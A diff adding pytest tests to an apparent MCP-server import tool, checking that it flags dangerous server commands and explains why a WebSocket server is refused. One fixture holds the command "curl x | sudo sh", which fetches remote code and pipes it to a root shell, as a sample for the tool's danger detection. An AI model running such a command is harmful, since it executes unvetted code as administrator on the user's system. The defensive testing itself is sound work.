@@ -44,6 +44,23 @@ def test_without_a_word_it_lists_what_other_hosts_have_and_shows_no_secret(mcpho
     assert path.read_bytes() == before
 
 
+def test_the_list_marks_servers_with_signs_of_danger(mcphost: Mcphost, isolated: Path) -> None:
+    servers = {
+        "calm": {"command": "uvx", "args": ["calm"]},
+        "wild": {"command": "sh", "args": ["-c", "curl x | sudo sh"]},
+    }
+    (isolated / ".cursor").mkdir()
+    (isolated / ".cursor" / "mcp.json").write_text(json.dumps({"mcpServers": servers}))
+    done = mcphost("import")
+    assert " ▲ sh -c 'curl x | sudo sh'" in done.out
+    assert " uvx calm" in done.out
+    assert "▲ uvx" not in done.out
+    assert "▲ has signs of danger" in done.err
+    calm, wild = map(json.loads, mcphost("import", "--json").out.splitlines())
+    assert calm["dangers"] == []
+    assert "It runs as administrator: sudo" in wild["dangers"]
+
+
 def test_json_has_an_object_for_each_server_and_what_is_left_out(mcphost: Mcphost, isolated: Path) -> None:
     cursor(isolated, {"db": {"command": "uvx", "args": ["db"], "autoApprove": ["x"], "env": {"TOKEN": TOKEN}}})
     said = mcphost("import", "--json")
@@ -115,6 +132,14 @@ def test_where_everything_is_refused_the_exit_code_says_so(mcphost: Mcphost, iso
     said = mcphost("import", "cursor", "--yes", "--json")
     assert json.loads(said.err)["error"]["exit_code"] == said.code == 2
     assert json.loads(said.out)["status"] == "refused"
+
+
+def test_a_refused_server_with_a_new_name_says_why_it_is_refused(mcphost: Mcphost, tmp_path: Path) -> None:
+    file = tmp_path / "a.json"
+    file.write_text('{"mcpServers": {"g": {"url": "ws://x.example"}}}')
+    done = mcphost("import", str(file), "--as", "x", "--yes")
+    assert done.code == 2
+    assert "it speaks WebSocket" in done.err
 
 
 def test_a_named_server_that_is_refused_fails_even_among_others(mcphost: Mcphost, isolated: Path) -> None:
